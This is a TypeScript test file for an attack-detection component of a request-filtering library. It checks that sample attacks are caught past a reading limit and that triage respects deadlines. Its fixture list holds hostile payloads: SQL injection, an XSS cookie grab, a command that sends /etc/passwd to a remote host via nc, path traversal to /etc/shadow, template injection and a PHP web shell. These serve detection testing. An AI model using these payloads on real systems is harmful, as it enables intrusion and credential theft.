import type { Deadline } from '@sallyport/core';
import type { Leaf } from '@sallyport/traffic';
import { describe, expect, it } from 'vitest';
import { createDetection, type Inspection } from './index.ts';
import { THOROUGH_CHARS } from './limits.ts';
import { openPassed, type Reading } from './reading.ts';
import { shippedModel } from './score/learned/shipped.ts';
import { EMPTY_REQUEST, leafOf } from './testing/cases.ts';
import { Triage } from './triage.ts';

const model = shippedModel();
const ALL = -1;

const HONEST = [
  'Please ship to Miller & Sons (Dublin); they pay 50% on arrival = 120 EUR',
  'Rent (May) for flat 12/B; see contract 4711 & house rules = signed',
  'The meeting (room 3) starts at 17:00; bring slides & notes = fine for all?',
];

const ATTACKS: readonly (readonly [string, string])[] = [
  ['sqli', "x' UNION SELECT card FROM vault--"],
  ['xss', '<img src=x onerror=alert(document.cookie)>'],
  ['cmdi', 'x; cat /etc/passwd | nc 203.0.113.9 4444'],
  ['path-traversal', '../../../../etc/shadow'],
  ['ssti', '{{config.__class__.__init__.__globals__}}'],
  ['code-injection', '<?php system($_GET["c"]); ?>'],
];

function leaf(value: string, index: number): Leaf {
  return { ...leafOf({ value, kind: 'body', name: 'note' }), point: `body.json.notes[${index}].text` };
}

/** Different honest texts, of which each looks like something. */
function crowd(chars: number): Leaf[] {
  const leaves: Leaf[] = [];
  for (let size = 0; size < chars; size += leaves.at(-1)!.value.length)
    leaves.push(leaf(`${HONEST[leaves.length % 3]} ${leaves.length}`, leaves.length));
  return leaves;
}

function reading(value: string): Reading {
  return openPassed(leaf(value, 0), 0, value.length, ALL);
}

function inspect(
  leaves: readonly Leaf[],
  options: Parameters<typeof createDetection>[0] = {},
  deadline: Deadline | null = null,
): Inspection {
  return createDetection(options).inspect(leaves, EMPTY_REQUEST, deadline);
}

describe('past the characters that are read thoroughly', () => {
  it.each(ATTACKS)('%s is found, in a value of its own and in a long one', (attack, text) => {
    const before = crowd(2 * THOROUGH_CHARS);
    const found = inspect([...before, leaf(text, before.length)], { model });
    expect(found.score).toBeGreaterThanOrEqual(0.5);
    expect(found.classes).toContain(attack);
    const long = before.map(({ value }) => value).join(' ');
    expect(inspect([leaf(`${long.repeat(4)} ${text} ${long}`, 0)], { model }).classes).toContain(attack);
  });

  it('costly confirmers do not read a value that the model takes for honest', () => {
    const [honest, suspicious] = [reading(HONEST[0]!), reading(ATTACKS[0]![1])];
    new Triage(model, null, 0).choose([honest, suspicious]);
    expect(honest.bits).not.toBe(ALL);
    expect(suspicious.bits).toBe(ALL);
  });

  it('the model is not asked about each of a crowd of attacks', () => {
    let asked = 0;
    const counting: typeof model = {
      ...model,
      judge(...asking) {
        asked++;
        return model.judge(...asking);
      },
    };
    const triage = new Triage(counting, null, 0);
    triage.choose(Array.from({ length: 1_000 }, (_, index) => reading(`' or ${index}=${index}--`)));
    expect(asked).toBeLessThan(100);
  });

  it('nothing is left out without a model', () => {
    const triage = new Triage(null, null, 0);
    const honest = reading(HONEST[0]!);
    triage.choose([honest]);
    expect(honest.bits).toBe(ALL);
  });
});

describe('up to there', () => {
  it('all is read', () => {
    const triage = new Triage(model, null, HONEST[0]!.length + 1);
    const readings = [reading(HONEST[0]!), reading(HONEST[1]!), reading(HONEST[2]!)];
    triage.choose(readings);
    expect(readings.map(({ bits }) => bits === ALL)).toEqual([true, true, false]);
  });

  it('and of a large message no longer than half of the time', () => {
    let now = 0;
    const deadline = { clock: { now: () => 0, micros: () => now }, at_us: 100 };
    const chosen = (chars: number): boolean[] => {
      now = 0;
      const triage = new Triage(model, deadline, THOROUGH_CHARS);
      const [early, late] = [crowd(chars).map(({ value }) => reading(value)), reading(HONEST[1]!)];
      triage.choose(early);
      now = 50;
      triage.choose([late]);
      return [early.every(({ bits }) => bits === ALL), late.bits === ALL];
    };
    expect(chosen(1_000)).toEqual([true, true]);
    expect(chosen(20_000)).toEqual([true, false]);
  });
});
